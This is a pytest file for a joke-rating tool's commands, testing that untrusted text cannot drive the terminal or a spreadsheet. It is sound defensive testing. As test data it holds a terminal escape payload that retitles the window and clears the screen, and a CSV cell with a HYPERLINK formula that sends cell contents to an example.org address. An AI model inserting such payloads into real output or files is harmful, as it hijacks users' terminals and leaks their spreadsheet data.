"""What strangers write (a server's error, a critic's reason, a file's name) drives no terminal and no spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console
from typer.testing import CliRunner

from humor_env import Joke, Judgement
from humor_env.experiments.commands import sharing
from humor_env.experiments.commands.cli import app
from humor_env.experiments.commands.judge_file import judge_file, read_jokes
from humor_env.experiments.compare import benchmark
from humor_env.experiments.reproduction import reproduce
from humor_env.experiments.runs.screen import Terminal
from humor_env.shared.spreadsheet import no_formula

TITLE = "\x1b]0;PWNED\x07\x1b[2J"


class Evil:
    """Every second joke fails with what a server answered; the others have it as their reason."""

    name = "evil"

    def __call__(self, jokes: Sequence[Joke]) -> list[Judgement]:
        failed = Judgement(self.name, None, error=f"answered 422: {TITLE} no")
        return [
            failed if n % 2 or len(jokes) < 3 else Judgement(self.name, 0.5, reason=TITLE) for n in range(len(jokes))
        ]


def said(*words: str) -> str:
    done = CliRunner().invoke(app, list(words))
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    assert done.output
    return done.output


@pytest.mark.parametrize(
    "words",
    [
        ["audit", "--data", "ratings", "--file", "FILE", "--context", "0", "--critic", "test_terminal:Evil"],
        ["check", "critic", "test_terminal:Evil"],
        ["probes", "--critic", "test_terminal:Evil"],
        ["probes", "--markdown", "--critic", "test_terminal:Evil"],
        ["card", "test_terminal:Evil", "--prompts", "pocket"],
        ["judge", "FILE", "--critic", "test_terminal:Evil"],
    ],
    ids=lambda words: "-".join(words[:2]),
)
def test_a_critics_words_do_not_drive_the_terminal(words: list[str], tmp_path: Path, monkeypatch: Any) -> None:
    """`audit` and `check` printed a server's error message as it came: it could set the window's title."""
    monkeypatch.chdir(tmp_path)
    rows = [{"prompt": f"Room {n}.", "text": f"The meeting in room {n} was slow.", "score": n % 4} for n in range(12)]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    shown = said(*[word.replace("FILE", str(tmp_path / "rows.jsonl")) for word in words])
    assert "\x1b" not in shown and "\x07" not in shown


def test_a_cells_error_does_not_drive_the_terminal(tmp_path: Path, monkeypatch: Any) -> None:
    def run(*rest: Any, say: Any, **more: Any) -> Any:
        say(f"x/seed-0: failed ({TITLE})")
        return SimpleNamespace(folder=tmp_path, failures={}, failed={}, tables={}, text=f"| {TITLE} |\n")

    monkeypatch.setattr(benchmark, "run_benchmark", run)
    monkeypatch.setattr(reproduce, "reproduce", run)
    for words in (["benchmark", "pocket-mini"], ["reproduce", "small-but-funny", "--scale", "pocket"]):
        shown = said(*words, "--out", str(tmp_path / "out"))
        assert "PWNED" in shown and "\x1b" not in shown and "\x07" not in shown


def test_a_terminals_sentences_do_not_drive_it() -> None:
    out = io.StringIO()
    Terminal(Console(file=out, force_terminal=True, width=200)).say(f"judge '{TITLE}'")
    assert "\x1b]0;" not in out.getvalue() and "\x07" not in out.getvalue() and "\x1b[2J" not in out.getvalue()


def test_file_names_from_the_hub_do_not_drive_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    sharing._show([(f"{TITLE}.json", 7)])
    assert "\x1b" not in capsys.readouterr().out


def test_a_table_of_judgements_runs_no_formula(tmp_path: Path) -> None:
    """A joke that begins with = was a formula for the spreadsheet that opened the table."""
    link = '=HYPERLINK("http://example.org/?"&A1,"The meeting was slow.")'
    with (tmp_path / "jokes.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["prompt", "text", "@mine"], ["The meeting was slow.", link, "-3"]])
    judge_file(read_jokes(tmp_path / "jokes.csv"), tmp_path / "out.csv", Evil())
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        head, row = csv.reader(file)
    assert head == ["prompt", "text", "'@mine", "critic", "score", "reason", "error"]
    assert row[:3] == ["The meeting was slow.", f"'{link}", "-3"]
    assert judge_file(read_jokes(tmp_path / "jokes.csv"), tmp_path / "out.csv", Evil()).jokes == 1


@pytest.mark.parametrize("cell", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"])
def test_what_a_spreadsheet_would_run_is_a_text(cell: str) -> None:
    assert no_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "plain", "-3.5", "+1e3", "a=1", -3.5, None, 7])
def test_what_a_spreadsheet_would_not_run_is_left_alone(cell: Any) -> None:
    assert no_formula(cell) == cell
